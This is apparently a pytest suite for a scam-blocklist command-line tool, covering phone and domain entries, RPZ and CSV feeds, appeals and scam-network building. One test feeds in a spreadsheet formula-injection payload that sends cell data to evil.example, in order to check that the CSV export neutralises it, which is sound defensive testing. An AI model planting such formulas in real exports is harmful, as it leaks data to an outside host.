from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest


def test_blocklist_life_cycle(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert run("blocklist", "allowlist", "--install-defaults", "--json").exit_code == 0
    added = run("blocklist", "add", "phone", "081 234 5678", "--region", "TH",
                "--reason", "call-centre scam", "--by", "tester", "--json")
    assert added.exit_code == 0, added.output
    entry = json.loads(added.stdout)
    assert (entry["value"], entry["added_by"]) == ("+66812345678", "tester")
    refused = run("blocklist", "add", "domain", "bit.ly", "--reason", "x")
    assert refused.exit_code == 1 and "allowlist" in refused.stderr
    rpz = run("blocklist", "add", "domain", "scam.top", "--match", "domain_tree",
              "--reason", "fake exchange")
    assert rpz.exit_code == 0
    feed = run("blocklist", "feed", "--format", "rpz")
    assert "*.scam.top CNAME ." in feed.stdout
    appeal = run("blocklist", "appeal", "phone", "+66812345678", "--contact", "owner",
                 "--statement", "my shop's number")
    assert appeal.exit_code == 0, appeal.output
    decided = run("blocklist", "decide", "1", "--uphold", "--reason", "checked")
    assert "upheld" in decided.stdout
    shown = json.loads(run("blocklist", "show", str(entry["id"]), "--json").stdout)
    assert [h["action"] for h in shown["history"]] == ["added", "appealed", "delisted"]
    listed = json.loads(run("blocklist", "list", "--json").stdout)
    assert [e["value"] for e in listed] == ["scam.top"]
    out_file = tmp_path / "feed.csv"
    assert run("blocklist", "feed", "--format", "csv", "--out", str(out_file)).exit_code == 0
    assert out_file.read_text().startswith("id,kind,value")


def test_promote_from_ingested_reports(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run("agency", "add", "CN-MPS", "--country", "CN", "--name", "MPS")
    path = tmp_path / "r.csv"
    path.write_text("report_id,phones\nA,13800138000\nB,138 0013 8000\nC,13900139000\n",
                    encoding="utf-8")
    assert run("ingest", str(path), "--agency", "CN-MPS").exit_code == 0
    result = json.loads(run("blocklist", "promote", "--json").stdout)
    assert result["added"] == 1
    [entry] = json.loads(run("blocklist", "list", "--json").stdout)
    assert entry["report_ids"] == ["CN-MPS/A", "CN-MPS/B"]


@pytest.mark.parametrize(("args", "code"), [
    (["blocklist", "add", "phone", "+8613800138000", "--match", "fuzzy", "--reason", "r"], 2),
    (["blocklist", "delist", "99", "--reason", "r"], 2),
    (["blocklist", "feed", "--format", "pdf"], 2),
    (["blocklist", "decide", "5", "--reason", "r"], 2),
], ids=["bad-match", "unknown-entry", "unknown-format", "unknown-appeal"])
def test_failures(run, args: list[str], code: int) -> None:  # type: ignore[no-untyped-def]
    result = run(*args)
    assert result.exit_code == code, result.output


def test_networks_commands(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run("agency", "add", "CN-MPS", "--country", "CN", "--name", "MPS")
    path = tmp_path / "r.csv"
    path.write_text("report_id,phones,crypto_wallets\n"
                    "A,13800138000,0x52908400098527886e0f7030069857d2e4169ee7\n"
                    "B,13800138000;13900139000,\n", encoding="utf-8")
    assert run("ingest", str(path), "--agency", "CN-MPS").exit_code == 0
    built = json.loads(run("networks", "build", "--json").stdout)
    assert built["networks"] == 1 and built["reports"] == 2
    [network] = json.loads(run("networks", "list", "--json").stdout)
    assert network["size"] == 3 and network["core_members"][0]["value"] == "+8613800138000"
    shown = run("networks", "show", network["id"], "--markdown")
    assert shown.stdout.startswith(f"# Network {network['id']}")
    expanded = json.loads(run("networks", "expand", "phone", "+8613900139000", "--json").stdout)
    assert len(expanded["nodes"]) == 3
    blocked = json.loads(run("networks", "block", network["id"], "--json").stdout)
    assert blocked["added"] == 3
    assert run("networks", "show", "N-404").exit_code == 2


def test_the_csv_feed_neutralises_formulas(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    reason = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    assert run("blocklist", "add", "phone", "+8613700137000", "--reason", reason).exit_code == 0
    out_file = tmp_path / "feed.csv"
    assert run("blocklist", "feed", "--format", "csv", "--out", str(out_file)).exit_code == 0
    [row] = list(csv.DictReader(out_file.open(encoding="utf-8", newline="")))
    assert row["reason"] == "'" + reason
    [printed] = list(csv.DictReader(io.StringIO(run("blocklist", "feed").stdout)))
    assert printed["reason"] == "'" + reason


def test_the_operator_decides_any_appeal(run) -> None:  # type: ignore[no-untyped-def]
    """The CLI is the instance's operator: it decides appeals on any agency's entries."""
    run("agency", "add", "CN-MPS", "--country", "CN", "--name", "MPS")
    assert run("blocklist", "add", "phone", "+8613700137000", "--reason", "r",
               "--agency", "CN-MPS", "--marking", "TLP:RED").exit_code == 0
    assert run("blocklist", "appeal", "phone", "+8613700137000", "--contact", "owner",
               "--statement", "mine").exit_code == 0
    listed = json.loads(run("blocklist", "appeals", "--json").stdout)
    assert [(a["id"], a["contact"]) for a in listed] == [(1, "owner")]
    assert "rejected" in run("blocklist", "decide", "1", "--reject", "--reason", "in 9").stdout
